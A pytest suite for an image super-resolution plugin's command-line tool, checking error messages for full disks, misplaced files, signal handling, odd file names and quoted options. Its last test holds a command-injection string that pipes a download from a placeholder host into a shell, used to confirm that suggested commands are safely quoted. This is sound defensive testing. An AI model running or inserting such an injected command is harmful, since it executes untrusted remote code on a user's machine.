"""Nothing silent, round 2 (issue 22): every command survives a bad item, says one line for a
full or read-only disk or a file in the wrong place, stops cleanly on a signal and cleans what
a killed run left; file names and option values that used to slip through. Real files in
tmp_path; a full or read-only disk is the plugin's lowest write raising, or a real file-size
limit in a subprocess."""
import errno
import os
import resource
import shlex
import signal
import subprocess
import sys
import time

import cv2
import numpy as np
import pytest
import torch
import yaml

from classsr_plugin import ClassSR, atomic
from classsr_plugin.cli import main
from test_reliability import ckpt, noise  # noqa: F401 (ckpt: a fixture)

FSRCNN = {"type": "FSRCNN", "d": 56, "upscale": 4}
ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))


def images(folder, sizes):
    os.makedirs(folder, exist_ok=True)
    for k, (name, (h, w)) in enumerate(sizes.items()):
        assert cv2.imwrite(os.path.join(folder, name), noise(h, w, k))
    return str(folder)


def _prepared(tmp_path):
    hr = images(tmp_path / "hr", {"a.png": (64, 64)})
    assert main(["prepare", "--hr", hr, "--out", str(tmp_path / "sub"), "--scales", "1", "--tile", "8",
                 "--stride", "8"]) == 0
    return str(tmp_path / "sub")


def one_line(text):
    lines = text.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in text, text
    return lines[0]


# -- 4. every per-image error is reported by path, and the run goes on ----------------------
def test_eval_goes_on_past_images_of_4_to_7_px(ckpt, tmp_path, capsys):
    hr = images(tmp_path / "hr", {"a5.png": (5, 5), "b6x7.png": (6, 7), "c7.png": (7, 40),
                                  "good.png": (64, 64), "odd.png": (66, 70)})
    images(tmp_path / "hr" / "nested", {"deep.png": (64, 64)})
    assert main(["eval", "-opt", ckpt, "--hr", hr, "-o", str(tmp_path / "ev")]) == 0
    out = capsys.readouterr()
    text = out.out + out.err
    for name in ("a5.png", "b6x7.png", "c7.png"):
        assert os.path.join(hr, name) in text
    assert "nested" in out.err and "not searched" in out.err
    assert "odd.png: 70x66 cropped to 68x64" in text
    assert "**2 of 5 images**" in (tmp_path / "ev" / "eval.md").read_text()


def test_prepare_notes_crops_and_nested_folders(tmp_path, capsys):
    hr = images(tmp_path / "hr", {"odd.png": (66, 70)})
    images(tmp_path / "hr" / "nested", {"deep.png": (64, 64)})
    assert main(["prepare", "--hr", hr, "--out", str(tmp_path / "sub"), "--scales", "1", "--tile", "8",
                 "--stride", "8"]) == 0
    out = capsys.readouterr()
    assert "odd.png: 70x66 cropped to 68x64" in out.out + out.err
    assert "nested" in out.err and "not searched" in out.err


# -- 5. a full or read-only disk, files where folders should be ------------------------------
def _fail_writes(monkeypatch, code):
    def put(path, data):
        with open(path, "wb") as f:
            f.write(bytes(data[0] if isinstance(data, list) else data)[:10])  # part of it, then the disk says no
        raise OSError(code, os.strerror(code), path)
    monkeypatch.setattr(atomic, "put", put)


REASON = {errno.ENOSPC: "no space left on the device", errno.EROFS: "read-only file system"}


def _commands(tmp_path, ckpt):
    """Each command with its output folder or file (`OUT` in its arguments)."""
    hr = images(tmp_path / "in", {"a.png": (64, 64)})
    data = _prepared(tmp_path)
    ref = tmp_path / "ref.yml"
    torch.save({"params": torch.nn.Conv2d(3, 3, 3).state_dict()}, tmp_path / "w.pth")
    ref.write_text(yaml.safe_dump({"network_g": {"type": "FSRCNN", "d": 16, "upscale": 4},
                                   "path": {"pretrain_network_g": str(tmp_path / "w.pth")}}))
    opt = tmp_path / "cs.yml"
    opt.write_text(yaml.safe_dump({"network_g": {"type": "ClassSR", "base": dict(FSRCNN)},
                                   "path": {"pretrain_network_g": ckpt}}))
    return {"prepare": ["prepare", "--hr", hr, "--out", "OUT", "--scales", "1", "--tile", "8", "--stride", "8"],
            "eval": ["eval", "-opt", ckpt, "--hr", hr, "-o", "OUT"],
            "export": ["export", "-opt", str(opt), "-o", "OUT/m.pth"],
            "label": ["label", "--data", data, "--by", "oracle", "-opt", ckpt, "-o", "OUT/meta.txt"],
            "photos": ["photos", "--out", "OUT"]}


@pytest.fixture(scope="module")
def commands(tmp_path_factory, ckpt):
    return _commands(tmp_path_factory.mktemp("cmd"), ckpt)


def _run(argv, out):
    return main([a.replace("OUT", out) for a in argv])


@pytest.mark.parametrize("code", [errno.ENOSPC, errno.EROFS])
@pytest.mark.parametrize("cmd", ["prepare", "eval", "export", "label", "photos"])
def test_full_or_read_only_disk_is_one_line(commands, tmp_path, monkeypatch, capsys, cmd, code):
    _fail_writes(monkeypatch, code)
    out = str(tmp_path / "out")
    capsys.readouterr()
    assert _run(commands[cmd], out) == 1
    err = one_line(capsys.readouterr().err)
    assert err.startswith(f"classsr {cmd}: error: {out}{os.sep}") and err.endswith(REASON[code]), err
    assert ".part" not in err and ".stage." not in err
    left = [n for _, dirs, files in os.walk(out) for n in dirs + files if n.startswith(".")]
    assert not left  # no temporary file or stage folder stays behind


@pytest.mark.parametrize("cmd", ["prepare", "eval", "export", "label", "photos"])
def test_a_file_where_a_folder_should_be(commands, tmp_path, capsys, cmd):
    blocker = tmp_path / "blocker"
    blocker.write_text("a file")
    capsys.readouterr()
    assert _run(commands[cmd], str(blocker / "deeper")) == 1
    assert one_line(capsys.readouterr().err) == f"classsr {cmd}: error: {blocker}: a file where a folder should be"


@pytest.mark.parametrize("cmd,name", [("prepare", "settings.json"), ("eval", "eval.md"), ("export", "m.pth"),
                                      ("label", "meta.txt"), ("photos", "photos.json")])
def test_a_folder_where_a_file_should_be(commands, tmp_path, capsys, cmd, name):
    out = tmp_path / "out"
    (out / name / "inside").mkdir(parents=True)
    capsys.readouterr()
    assert _run(commands[cmd], str(out)) == 1
    line = one_line(capsys.readouterr().err)
    assert line == f"classsr {cmd}: error: {out / name}: a folder where a file should be"


def test_eval_prints_its_table_before_the_disk_fills(ckpt, tmp_path, monkeypatch, capsys):
    hr = images(tmp_path / "hr", {"a.png": (64, 64)})
    _fail_writes(monkeypatch, errno.ENOSPC)
    assert main(["eval", "-opt", ckpt, "--hr", hr, "-o", str(tmp_path / "ev")]) == 1
    out = capsys.readouterr()
    assert "| ClassSR |" in out.out and "wrote" not in out.out
    assert one_line(out.err).endswith("no space left on the device")
    assert os.listdir(tmp_path / "ev") == []


def _limited(argv, cwd, limit):
    """`classsr ARGV` in a subprocess that may not write files over `limit` bytes (a full disk
    without root: writes past it fail with EFBIG)."""
    def cap():
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))
    return subprocess.run([sys.executable, "-m", "classsr_plugin.cli", *argv], cwd=cwd, capture_output=True,
                          text=True, preexec_fn=cap, timeout=600)


def test_export_on_a_full_disk_is_one_line(ckpt, tmp_path):
    opt = tmp_path / "cs.yml"
    opt.write_text(yaml.safe_dump({"network_g": {"type": "ClassSR", "base": dict(FSRCNN)},
                                   "path": {"pretrain_network_g": ckpt}}))
    res = _limited(["export", "-opt", str(opt), "-o", "out/m.pth"], tmp_path, 20000)
    assert res.returncode == 1, res.stderr
    assert one_line(res.stderr) == f"classsr export: error: {os.path.join('out', 'm.pth')}: file too large"
    assert os.listdir(tmp_path / "out") == []


# -- 6. any file name -------------------------------------------------------------------------
def test_prepare_takes_any_file_name_and_training_reads_it(tmp_path, capsys):
    from classsr_plugin.registry.basicsr_data import ClassSRDataset
    hr = images(tmp_path / "hr", {"my photo.png": (64, 64), "#1.png": (64, 64), "tab\there.png": (64, 64),
                                  "my_photo.png": (64, 64)})
    out = str(tmp_path / "sub")
    assert main(["prepare", "--hr", hr, "--out", out, "--scales", "1", "--tile", "8", "--stride", "8"]) == 0
    said = capsys.readouterr()
    assert os.path.join(hr, "my photo.png") in said.out + said.err
    data = ClassSRDataset({"dataroot": out, "scale": 4, "phase": "val"})
    assert len(data) == 4 * 4  # every sub-image of every image, none dropped as a comment
    names = {n for n, _, _ in data.items}
    assert len({n.rsplit("_s1.00", 1)[0] for n in names}) == 4  # four distinct ids
    assert not any(c.isspace() or n.startswith("#") for n in names for c in n)
    item = data[0]
    assert item["lq"].shape == (3, 8, 8) and item["gt"].shape == (3, 32, 32)


def test_meta_names_with_spaces_are_read(tmp_path):
    from classsr_plugin.data.prepare import read_meta
    meta = tmp_path / "meta_info.txt"
    meta.write_text("# name psnr class\nmy photo_s1.00_0000_0000 31.5000 2\n")
    assert read_meta(str(meta)) == [("my photo_s1.00_0000_0000", 31.5, 2)]


# -- 7. booleans are booleans; custom_imports fail in one line, and take mmengine's dict -------
@pytest.mark.parametrize("key,value", [("share_weights", "false"), ("channels_last", "no")])
def test_quoted_booleans_are_refused(tmp_path, capsys, key, value):
    with pytest.raises(ValueError, match=rf"{key}: '{value}' is not true or false"):
        ClassSR(base=dict(FSRCNN), **{key: value})
    opt = tmp_path / "o.yml"
    opt.write_text(f"network_g:\n  type: ClassSR\n  base: {{type: FSRCNN, d: 56, upscale: 4}}\n  {key}: \"{value}\"\n")
    assert main(["infer", "-opt", str(opt), str(tmp_path / "x.png"), "-o", str(tmp_path / "o")]) == 2
    assert f"{key}: '{value}' is not true or false" in one_line(capsys.readouterr().err)


@pytest.mark.parametrize("key", ["allow_untrained", "reset_classifier", "freeze_widest"])
def test_quoted_phase_booleans_are_refused(key):
    from classsr_plugin.phases import PhaseSettings
    with pytest.raises(ValueError, match=rf"classsr.{key}: 'false' is not true or false"):
        PhaseSettings.from_options({"phase": "classifier", key: "false"})


def test_quoted_dataset_booleans_are_refused(tmp_path):
    from classsr_plugin.registry.basicsr_data import ClassSRDataset
    data = _prepared(tmp_path)
    with pytest.raises(ValueError, match="use_hflip: 'false' is not true or false"):
        ClassSRDataset({"dataroot": data, "scale": 4, "phase": "train", "use_hflip": "false"})


def _module(tmp_path, name, body):
    (tmp_path / f"{name}.py").write_text(body)
    return name


@pytest.mark.parametrize("body,says", [
    ("raise RuntimeError('no GPU driver')\n", "RuntimeError: no GPU driver"),
    ("def broken(:\n    pass\n", "SyntaxError"),
    ("import no_such_module_here\n", "No module named 'no_such_module_here'"),
])
def test_a_custom_import_that_fails_is_one_line(tmp_path, monkeypatch, capsys, body, says):
    monkeypatch.syspath_prepend(str(tmp_path))
    name = _module(tmp_path, f"mod_{abs(hash(body)) % 10 ** 6}", body)
    opt = tmp_path / "o.yml"
    opt.write_text(yaml.safe_dump({"custom_imports": [name], "network_g": {"type": "ClassSR", "base": dict(FSRCNN)}}))
    assert main(["export", "-opt", str(opt), "-o", str(tmp_path / "m.pth")]) == 2
    line = one_line(capsys.readouterr().err)
    assert name in line and says in line and "custom_imports" in line
    assert main(["--import", name, "photos", "--out", str(tmp_path / "p")]) == 2
    line = one_line(capsys.readouterr().err)
    assert name in line and says in line and "--import" in line


def test_custom_imports_in_mmengines_dict_form(tmp_path, monkeypatch, capsys):
    monkeypatch.syspath_prepend(str(tmp_path))
    marker = tmp_path / "imported"
    _module(tmp_path, "mm_style_mod", f"open({str(marker)!r}, 'w').close()\n")
    opt = tmp_path / "o.yml"
    net = {"type": "ClassSR", "base": dict(FSRCNN)}
    opt.write_text(yaml.safe_dump({"custom_imports": {"imports": ["mm_style_mod"], "allow_failed_imports": False},
                                   "network_g": net}))
    assert main(["export", "-opt", str(opt), "-o", str(tmp_path / "m.pth")]) == 2  # no weights: after the import
    assert marker.exists() and "pretrain_network_g: no weights" in capsys.readouterr().err
    # allowed failures are said and passed over, as mmengine does
    opt.write_text(yaml.safe_dump({"custom_imports": {"imports": ["no_such_mod_x"], "allow_failed_imports": True},
                                   "network_g": net}))
    from classsr_plugin.options import read_options
    assert read_options(str(opt))["network_g"] == net
    assert "no_such_mod_x" in capsys.readouterr().err
    for bad, says in [({"imports": ["x"], "allow_failed_imports": "no"}, "allow_failed_imports: 'no' is not true"),
                      ({"import": ["x"]}, "custom_imports.import: unknown key; known: allow_failed_imports, imports")]:
        opt.write_text(yaml.safe_dump({"custom_imports": bad, "network_g": net}))
        with pytest.raises(ValueError, match=says):
            read_options(str(opt))


# -- 9. signals --------------------------------------------------------------------------------
def _start(argv, cwd):
    def default_sigint():  # a background shell may start children with SIGINT ignored
        signal.signal(signal.SIGINT, signal.SIG_DFL)
    env = {**os.environ, "PYTHONPATH": ROOT}
    return subprocess.Popen([sys.executable, "-m", "classsr_plugin.cli", *argv], cwd=cwd, env=env, text=True,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, preexec_fn=default_sigint)


def _wait_for(proc, ready, timeout=300):
    end = time.time() + timeout
    while not ready():
        assert proc.poll() is None, proc.communicate()
        assert time.time() < end, "the run never got there"
        time.sleep(0.05)


def test_ctrl_c_in_prepare_is_one_line_and_resumes(tmp_path):
    hr = images(tmp_path / "hr", {f"{k:02d}.png": (256, 256) for k in range(40)})
    out = tmp_path / "sub"
    argv = ["prepare", "--hr", hr, "--out", str(out), "--scales", "1", "--tile", "8", "--stride", "4"]
    proc = _start(argv, tmp_path)
    _wait_for(proc, lambda: os.path.isdir(out / "scores") and os.listdir(out / "scores"))
    proc.send_signal(signal.SIGINT)
    _, err = proc.communicate(timeout=120)
    assert proc.returncode == 130, err
    assert one_line(err) == "classsr prepare: interrupted; re-run to resume"
    done = len(os.listdir(out / "scores"))
    assert 0 < done < 40
    assert main(argv) == 0
    assert len(os.listdir(out / "scores")) == 40


def test_sigterm_in_eval_leaves_no_stage(ckpt, tmp_path):
    hr = images(tmp_path / "hr", {f"{k:02d}.png": (256, 256) for k in range(20)})
    out = tmp_path / "ev"
    proc = _start(["eval", "-opt", ckpt, "--hr", hr, "-o", str(out)], tmp_path)
    _wait_for(proc, lambda: os.path.isdir(out) and any(n.startswith(".stage.") for n in os.listdir(out)))
    time.sleep(1)
    proc.send_signal(signal.SIGTERM)
    _, err = proc.communicate(timeout=120)
    assert proc.returncode == 143, err
    assert one_line(err) == "classsr eval: interrupted; re-run to resume"
    assert os.listdir(out) == []


def _dead_pid():
    p = subprocess.Popen(["true"])
    p.wait()
    return p.pid


def test_leftovers_of_killed_runs_are_cleaned(ckpt, tmp_path):
    hr = images(tmp_path / "hr", {"a.png": (64, 64)})
    out = tmp_path / "ev"
    out.mkdir()
    dead = _dead_pid()
    live = subprocess.Popen(["sleep", "60"])
    try:
        stale = [f".stage.{dead}.0badf00d", ".stage.1a2b3c4d", f".eval.0badf00d.{dead}.part.md",
                 ".a_x4.0badf00d.part.png"]
        kept = [f".stage.{live.pid}.0badf00d", f".eval.0badf00d.{live.pid}.part.md"]
        for name in stale + kept:
            (out / name).mkdir() if ".stage." in name else (out / name).write_text("left")
        assert main(["eval", "-opt", ckpt, "--hr", hr, "-o", str(out)]) == 0
        assert sorted(n for n in os.listdir(out) if n.startswith(".")) == sorted(kept)
        # infer's output folder, and any folder an atomic write goes to
        (out / ".b_x4.0badf00d.part.png").write_bytes(b"half")
        assert main(["infer", "-opt", ckpt, hr, "-o", str(out)]) == 0
        assert sorted(n for n in os.listdir(out) if n.startswith(".")) == sorted(kept)
    finally:
        live.kill()
        live.wait()


# -- 10. names from a checkpoint in a suggested command are quoted ------------------------------
def test_suggested_import_is_quoted():
    from classsr_plugin.imports import missing_hint
    name = "mynet; curl http://example.invalid/x | sh"
    hint = missing_hint([name])
    command = hint.split("(classsr ... ", 1)[1].split(", or custom_imports")[0]
    assert shlex.split(command) == ["--import", name]
    assert "--import sixconv" in missing_hint(["sixconv"])  # plain names stay as they are
